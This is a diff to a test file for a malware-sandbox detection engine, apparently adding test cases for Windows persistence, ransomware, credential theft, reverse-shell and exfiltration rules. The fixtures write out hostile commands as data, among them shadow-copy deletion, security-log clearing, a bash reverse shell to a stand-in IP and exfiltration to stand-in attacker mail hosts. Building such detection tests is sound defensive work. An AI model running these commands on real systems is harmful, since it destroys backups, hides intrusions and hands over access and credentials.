@@ -9,7 +9,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from mailvm.guest.rules import ENGINE_FINDINGS, RULES, PAYLOAD_MARKER, RuleContext, RuleEngine, evaluate
+from mailvm.guest.rules import COMBOS, ENGINE_FINDINGS, RULES, PAYLOAD_MARKER, RuleContext, RuleEngine, evaluate
 from mailvm.verdict import score_findings
 
 H = "/home/user"
@@ -19,6 +19,9 @@ PROGRAM = RuleContext(sample_path="/work/a.out", role="program")
 VIEWER = RuleContext(sample_path="/work/x.docx", role="viewer", viewer_exes=frozenset({"soffice.bin"}))
 WINDOWS = RuleContext(sample_path="/work/x.exe", role="program", platform="windows",
                       quiet_prefixes=(f"{H}/.wine/drive_c/windows", "/tmp/wine-*"))
+WSH = RuleContext(sample_path="/work/invoice.js", role="script", platform="windows",
+                  quiet_prefixes=(f"{H}/.wine/drive_c/windows", "/tmp/wine-*"))
+U = f"{H}/.wine/drive_c/users/user"  # C:\users\user inside the sandbox
 
 
 def ids(events, ctx=CTX) -> set[str]:
@@ -35,6 +38,28 @@ def ex(path, argv=None, t=2.0, parent="", **kw):
 
 def conn(ip, port, t=1.0, **kw):
     return {"t": t, "type": "connect", "family": "inet", "ip": ip, "port": port, "dst": f"{ip}:{port}", **kw}
+
+
+def wex(cmdline, image="", t=2.0, **kw):
+    """Wine's process trace: a Windows program started (image resolved) or asked for (stage request)."""
+    ev = {"t": t, "type": "exec", "src": "wine", "path": image, "argv": [cmdline], "tid": "0024", "proc": "x.exe"}
+    if not image:
+        ev.update(stage="request", path=cmdline.split(" ", 1)[0])
+    return {**ev, **kw}
+
+
+def api(fn, *args, t=1.0, **kw):
+    return {"t": t, "type": "api", "src": "wine", "fn": fn, "args": list(args), "tid": "0024", "proc": "x.exe", **kw}
+
+
+def payload(url, standin="pe_exe", by="name", t=1.0):
+    return {"t": t, "type": "http", "method": "GET", "url": url, "served": "payload", "standin": standin,
+            "standin_by": by}
+
+
+def listen(ip, port, sock="socket:[7]"):
+    return [{"type": "bind", "family": "inet", "ip": ip, "port": port, "dst": f"{ip}:{port}", "socket": sock},
+            {"type": "listen", "socket": sock}]
 
 
 # one (rule id, events, context) row per behaviour; each must raise exactly that rule (among others)
@@ -102,6 +127,95 @@ POSITIVE = [
     ("dns_query", [{"type": "dns", "name": "c2.example", "qtype": "A"}], CTX),
     ("http_request", [{"type": "http", "method": "GET", "url": "http://c2.example/x"}], CTX),
     ("tls_connection", [{"type": "tls", "sni": "c2.example", "dst": "198.18.0.1:443"}], CTX),
+    # Windows persistence
+    ("persistence_scheduled_task",
+     [wex(r'schtasks /create /sc onlogon /tn upd /tr "C:\users\user\AppData\Roaming\u.exe"',
+          image=r"C:\windows\system32\schtasks.exe")], WINDOWS),
+    ("persistence_scheduled_task", [w(f"{H}/.wine/drive_c/windows/system32/tasks/upd", create=True)], WINDOWS),
+    ("persistence_service", [wex(r"sc create upd binPath= C:\u.exe start= auto")], WINDOWS),
+    ("persistence_service", [{"type": "reg_set", "src": "reg_diff", "value": "ImagePath", "data": r"C:\u.exe",
+                              "key": r"HKLM\System\CurrentControlSet\Services\upd"}], WINDOWS),
+    ("persistence_service", [api("CreateServiceA", "0x10", "upd", "upd", "0xf01ff", "0x10", "0x2", "0x1",
+                                 r"C:\u.exe")], WINDOWS),
+    # ransomware
+    ("ransom_note", [w(f"{H}/Desktop/HOW_TO_DECRYPT_FILES.txt", create=True)], CTX),
+    ("ransom_note", [w(f"{H}/Documents/!!!_READ_ME_!!!.html", create=True)], WINDOWS),
+    ("shadow_copy_deletion", [wex("vssadmin delete shadows /all /quiet")], WINDOWS),
+    ("shadow_copy_deletion", [wex("cmd /c bcdedit /set {default} recoveryenabled No",
+                                  image=r"C:\windows\system32\cmd.exe")], WINDOWS),
+    # credential stores
+    ("credential_access", [w(f"{U}/AppData/Local/Google/Chrome/User Data/Default/Login Data", op="read")], WINDOWS),
+    ("credential_access", [w(f"{U}/AppData/Roaming/Mozilla/Firefox/Profiles/a.default/key4.db", op="probe")],
+     WINDOWS),
+    ("credential_access", [w(f"{U}/AppData/Roaming/FileZilla/sitemanager.xml", op="read")], WINDOWS),
+    ("credential_access", [w(f"{U}/AppData/Roaming/Thunderbird/Profiles/q.default/logins.json", op="read")],
+     WINDOWS),
+    ("credential_access", [w(f"{U}/AppData/Local/Microsoft/Outlook/j.doe@example.com.ost", op="read")], WINDOWS),
+    ("credential_access", [{"type": "reg_open", "key": r"HKCU\Software\SimonTatham\PuTTY\Sessions", "ok": True}],
+     WINDOWS),
+    ("credential_access", [{"type": "reg_open", "key": r"HKCU\Software\Martin Prikryl\WinSCP 2\Sessions"}],
+     WINDOWS),
+    ("log_tampering", [wex("wevtutil cl Security", image=r"C:\windows\system32\wevtutil.exe")], WINDOWS),
+    # downloads and execution under Wine
+    ("drop_execute", [w(f"{U}/AppData/Roaming/upd.exe", t=1), wex(r"C:\users\user\AppData\Roaming\UPD.EXE",
+                                                               image=r"C:\users\user\AppData\Roaming\UPD.EXE")],
+     WINDOWS),
+    ("download_execute", [payload("http://x/a.exe", t=1), w(f"{U}/Temp/a.exe", t=2),
+                          wex(r'"C:\users\user\Temp\a.exe"', image=r"C:\users\user\Temp\a.exe", t=3)],
+     WINDOWS),
+    ("download_execute", [payload("http://x/s.vbs", standin="vbs", t=1), w(f"{U}/Temp/s.vbs", t=2),
+                          wex(r'wscript.exe "C:\users\user\Temp\s.vbs"', image=r"C:\windows\system32\wscript.exe",
+                              t=3)], WSH),
+    ("downloads_executable", [payload("http://x/upd.exe")], CTX),
+    ("downloads_executable", [{"type": "ftp", "command": "RETR", "file": "stage2.exe", "dst": "203.0.113.1:21"}],
+     CTX),
+    ("script_host_downloads_executable", [payload("http://cdn.example/docs/dogovr2208.exe")], WSH),
+    ("self_copy", [api("CopyFileA", r"Z:\work\x.exe", r"C:\users\user\AppData\Roaming\svchost32.exe", "0x0")],
+     WINDOWS),
+    ("self_copy", [ex("/bin/cp", ["cp", "/work/s.sh", f"{H}/.local/bin/s"])], CTX),
+    ("self_copy", [w("/work/a.out", op="read", t=1), w(f"{H}/.local/bin/dbus-helper", create=True, t=2)], PROGRAM),
+    ("self_copy_executed", [api("CopyFileW", r"Z:\work\x.exe", r"C:\users\user\AppData\Roaming\svc.exe"),
+                            wex(r"C:\users\user\AppData\Roaming\svc.exe",
+                                image=r"C:\users\user\AppData\Roaming\svc.exe")], WINDOWS),
+    ("self_copy_executed", [w("/work/a.out", op="read", t=1), w(f"{H}/.local/bin/a.out", t=2),
+                            ex(f"{H}/.local/bin/a.out", t=3)], PROGRAM),
+    ("reverse_shell", [conn("203.0.113.5", 4444, pid=10), ex("/bin/sh", ["sh", "-i"], pid=11, ppid=10)], PROGRAM),
+    ("reverse_shell", [ex("/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/443 0>&1"], pid=12),
+                       conn("203.0.113.5", 443, pid=12)], CTX),
+    # Windows processes
+    ("process_injection", [api("WriteProcessMemory", "0x58", "0x340000", "0x21fc7f", "0x1", "0x21fc70")], WINDOWS),
+    ("process_injection", [api("VirtualAllocEx", "0x58", "0x0", "0x1000", "0x3000", "0x40")], WINDOWS),
+    ("process_hollowing", [api("CreateProcessA", r"C:\windows\system32\svchost.exe", "0x0", "0x0", "0x0", "0x0",
+                               "0x100000004"),
+                           api("NtUnmapViewOfSection", "0x58", "0x400000")], WINDOWS),
+    ("keyboard_hook", [api("SetWindowsHookExA", "0xd", "0x140001530", "0x140000000", "0x0")], WINDOWS),
+    ("anti_debug", [api("IsDebuggerPresent")], WINDOWS),
+    ("anti_debug", [api("NtSetInformationThread", "0xfffffffffffffffe", "0x11", "0x0", "0x0")], WINDOWS),
+    ("anti_vm_probe", [api("GetModuleHandleA", "SbieDll.dll")], WINDOWS),
+    ("anti_vm_probe", [{"type": "reg_open", "key": r"HKLM\Software\VMware, Inc.\VMware Tools", "ok": False}],
+     WINDOWS),
+    ("anti_vm_probe", [w(f"{H}/.wine/drive_c/windows/system32/drivers/VBoxMouse.sys", op="probe", ok=False,
+                         err="ENOENT")], WINDOWS),
+    ("anti_vm_probe", [wex("wmic bios get serialnumber", image=r"C:\windows\system32\wbem\wmic.exe")], WINDOWS),
+    ("long_sleep", [api("Sleep", "0x927c0")], WINDOWS),
+    ("long_sleep", [wex("ping -n 60 127.0.0.1", image=r"C:\windows\system32\ping.exe")], WINDOWS),
+    ("listens_loopback", listen("127.0.0.1", 8000), CTX),
+    # network, exfiltration
+    ("c2_port", [conn("203.0.113.7", 6667)], CTX),
+    ("c2_port", [{"type": "dns", "name": "irc.example", "answer": "198.18.0.3"}, conn("198.18.0.3", 6697)], CTX),
+    ("irc_traffic", [{"type": "irc", "command": "NICK", "args": "bot123", "dst": "203.0.113.7:6667"}], CTX),
+    ("exfil_smtp", [{"type": "smtp", "message": True, "mail_from": "a@x", "rcpt": ["drop@evil.example"],
+                     "bytes": 900, "subject": "PW", "attachments": ["log.zip"], "dst": "198.18.0.4:587"}], CTX),
+    ("exfil_smtp", [{"type": "smtp", "message": False, "auth_user": "bot@evil.example", "dst": "198.18.0.4:587"}],
+     CTX),
+    ("exfil_ftp_upload", [{"type": "ftp", "command": "STOR", "file": "loot.zip", "bytes": 5000, "user": "u"}], CTX),
+    ("http_upload", [{"type": "http", "method": "POST", "url": "http://x/gate.php", "body_bytes": 5000}], CTX),
+    ("http_upload", [{"type": "http", "method": "POST", "url": "http://x/u", "body_bytes": 90,
+                      "upload_files": ["passwords.txt"]}], CTX),
+    ("exfil_messaging_api", [{"type": "tls", "sni": "api.telegram.org", "dst": "198.18.0.5:443"}], CTX),
+    ("exfil_messaging_api", [{"type": "http", "method": "POST", "host": "discord.com",
+                              "url": "http://discord.com/api/webhooks/1/x", "path": "/api/webhooks/1/x"}], CTX),
+    ("public_ip_lookup", [{"type": "dns", "name": "api.ipify.org", "answer": "198.18.0.6"}], CTX),
 ]
 
 
@@ -112,6 +226,67 @@ def test_rule_fires(rule_id, events, ctx):
 
 def test_every_rule_has_a_positive_case():
     assert {r.id for r in RULES} == {row[0] for row in POSITIVE}
+
+
+# corroborating behaviours: events, context, the combination that must fire, the verdict
+SCENARIOS = [
+    ("persistence plus C2 (Run key + beacon)", [
+        {"type": "reg_set", "key": r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run", "value": "u"},
+        {"type": "dns", "name": "c2.example", "answer": "198.18.0.1"}, conn("198.18.0.1", 443)],
+     WINDOWS, "combo_persistence_c2"),
+    ("a stealer: browser logins, then Telegram", [
+        w(f"{U}/AppData/Local/Google/Chrome/User Data/Default/Login Data", op="read"),
+        {"type": "tls", "sni": "api.telegram.org", "dst": "198.18.0.2:443"}], WINDOWS, "combo_credentials_exfil"),
+    ("a stealer: FileZilla, then SMTP", [
+        w(f"{U}/AppData/Roaming/FileZilla/recentservers.xml", op="read"),
+        {"type": "smtp", "message": True, "mail_from": "a@x", "rcpt": ["b@y"], "bytes": 10, "subject": ""}],
+     WINDOWS, "combo_credentials_exfil"),
+    ("the crafted ELF: copy into ~/.local/bin, beacon to a raw IP on 6667, a shell", [
+        w("/work/a.out", op="read", t=1), w(f"{H}/.local/bin/a.out", create=True, t=2),
+        conn("203.0.113.66", 6667, t=3, pid=10), ex("/bin/sh", ["sh", "-c", "id"], t=4, pid=11, ppid=10)],
+     PROGRAM, "combo_self_copy_c2"),
+    ("an ELF that starts a shell and beacons to a raw IP", [
+        ex("/bin/sh", ["sh", "-c", "uname -a"], parent="/work/a.out", t=1), conn("203.0.113.66", 8080, t=2)],
+     PROGRAM, "combo_shell_c2"),
+    ("a keylogger that talks home", [api("SetWindowsHookExW", "0xd", "0x1", "0x1", "0x0"),
+                                     {"type": "http", "method": "POST", "url": "http://x/k", "body_bytes": 10}],
+     WINDOWS, "combo_keylogger_exfil"),
+    ("injection plus C2", [api("CreateRemoteThread", "0x58", "0x0", "0x0", "0x340000"), conn("203.0.113.9", 80)],
+     WINDOWS, "combo_injection_c2"),
+    ("a downloader that checks for a debugger", [api("IsDebuggerPresent"), payload("http://x/a.exe")], WINDOWS,
+     "combo_download_evasion"),
+    ("a self copy that persists", [api("CopyFileA", r"Z:\work\x.exe", r"C:\users\user\AppData\Roaming\s.exe"),
+                                   {"type": "reg_set", "key": r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run",
+                                    "value": "s"}], WINDOWS, "combo_self_copy_persistence"),
+]
+
+
+@pytest.mark.parametrize("name,events,ctx,combo", SCENARIOS, ids=[s[0] for s in SCENARIOS])
+def test_corroborating_behaviours_add_up_to_malicious(name, events, ctx, combo):
+    findings = evaluate(events, ctx)
+    assert combo in {f.id for f in findings}, findings
+    assert score_findings(findings)[0] == "malicious", findings
+    detail = next(f.detail for f in findings if f.id == combo)
+    assert " + " in detail  # names the findings that corroborate each other
+
+
+def test_every_combination_has_a_scenario_and_alone_the_parts_are_not_enough():
+    assert {c.id for c in COMBOS} == {s[3] for s in SCENARIOS}
+    # each part of the ELF case alone stays below malicious
+    for part in ([conn("203.0.113.66", 6667)], [w("/work/a.out", op="read", t=1), w(f"{H}/.local/bin/a.out", t=2)],
+                 [ex("/bin/sh", ["sh", "-c", "id"], parent="/work/a.out")]):
+        assert score_findings(evaluate(part, PROGRAM))[0] != "malicious", evaluate(part, PROGRAM)
+
+
+def test_a_combination_fires_once_when_its_second_family_appears():
+    eng = RuleEngine(WINDOWS)
+    first = eng.feed({"type": "reg_set", "key": r"HKCU\Software\Microsoft\Windows\CurrentVersion\RunOnce",
+                      "value": "x"})
+    assert [f.id for f in first] == ["persistence_registry_run"]
+    second = eng.feed(conn("203.0.113.10", 80))
+    assert [f.id for f in second] == ["network_raw_ip", "combo_persistence_c2"]
+    assert eng.feed(conn("203.0.113.11", 80)) == []
+    assert [f.id for f in eng.findings()].count("combo_persistence_c2") == 1
 
 
 # look-alikes that must stay quiet (a 4th column names the only rules that must not fire)
@@ -149,6 +324,39 @@ NEGATIVE = [
     ("mkdir -p of an existing dir is not reported by the monitor; reads of ~/.bashrc are fine",
      [w(f"{H}/.bashrc", op="read")], CTX),
     ("crontab -l only lists", [ex("/usr/bin/crontab", ["crontab", "-l"])], CTX),
+    ("Wine's helpers do what services do", [
+        wex("sc create x binPath= C:\\x.exe", proc="services.exe"),
+        api("Sleep", "0x927c0", proc="winedevice.exe"), api("SetWindowsHookExW", "0xd", "0x0", "0x0", "0x0",
+                                                               proc="explorer.exe"),
+        {"type": "exec", "src": "wine", "path": r"C:\windows\system32\cmd.exe", "argv": ["cmd"],
+         "proc": "services.exe"}], WINDOWS),
+    ("a guessed stand-in for a bare path is no download of code",
+     [payload("http://api.example/v1/status", standin="sh", by="default"),
+      payload("http://api.example/v1/x", standin="pe_exe", by="client")], WSH,
+     {"downloads_executable", "script_host_downloads_executable"}),
+    ("a web page's scripts", [payload("http://cdn.example/jquery.js", standin="js")], VIEWER,
+     {"downloads_executable", "script_host_downloads_executable"}),
+    ("loopback listener", listen("127.0.0.1", 8000), CTX, {"listens_for_connections"}),
+    ("INFINITE waits and short sleeps", [api("Sleep", "0xffffffff"), api("SleepEx", "0x3e8", "0x1"),
+                                         wex("ping -n 2 127.0.0.1", image=r"C:\windows\system32\ping.exe")],
+     WINDOWS),
+    ("mouse hooks", [api("SetWindowsHookExA", "0xe", "0x1", "0x0", "0x0")], WINDOWS),
+    ("a process created normally, then written", [
+        api("CreateProcessA", r"C:\x.exe", "0x0", "0x0", "0x0", "0x0", "0x0"),
+        api("WriteProcessMemory", "0x58", "0x1", "0x2", "0x1", "0x0")], WINDOWS, {"process_hollowing"}),
+    ("Windows temp and browser caches are scratch", [
+        w(f"{U}/Temp/x.tmp"), w(f"{U}/AppData/Local/Microsoft/Windows/INetCache/Content.IE5/AB/x[1]")], WINDOWS),
+    ("a self-extractor unpacking to /tmp", [w("/work/a.out", op="read", t=1), w("/tmp/_MEI123/libpython3.so", t=2),
+                                            {"t": 3, "type": "image", "path": "/usr/lib/libc.so.6"}], PROGRAM),
+    ("a script read by its interpreter once", [w("/work/s.sh", op="read", t=1), w(f"{H}/.config/app.conf", t=2)],
+     CTX, {"self_copy"}),
+    ("a shell after a connection to a resolved host",
+     [{"type": "dns", "name": "pypi.org", "answer": "198.18.0.2"}, conn("198.18.0.2", 443, pid=10),
+      ex("/bin/sh", ["sh", "-c", "ls"], pid=11, ppid=10)], PROGRAM, {"reverse_shell", "combo_shell_c2"}),
+    ("Wine's own registry", [{"type": "reg_open", "key": r"HKLM\System\CurrentControlSet\Services\Tcpip",
+                              "ok": True},
+                             {"type": "reg_set", "src": "reg_diff", "value": "Hostname", "data": "desktop-7f3a",
+                              "key": r"HKLM\System\CurrentControlSet\Services\Tcpip\Parameters"}], WINDOWS),
 ]
 
 
@@ -221,6 +429,7 @@ def test_hostile_events_never_raise(events):
 
 def test_docs_table_lists_every_rule_with_its_severity():
     doc = (Path(__file__).resolve().parents[1] / "docs" / "guest-rules.md").read_text()
-    rows = {m.group(1): int(m.group(2)) for m in re.finditer(r"^\|\s*`([a-z_]+)`\s*\|\s*(\d+)\s*\|", doc, re.M)}
-    expected = {r.id: r.severity for r in RULES} | {fid: sev for fid, sev, _ in ENGINE_FINDINGS}
+    rows = {m.group(1): int(m.group(2)) for m in re.finditer(r"^\|\s*`([a-z0-9_]+)`\s*\|\s*(\d+)\s*\|", doc, re.M)}
+    expected = ({r.id: r.severity for r in RULES} | {c.id: c.severity for c in COMBOS}
+                | {fid: sev for fid, sev, _ in ENGINE_FINDINGS})
     assert rows == expected
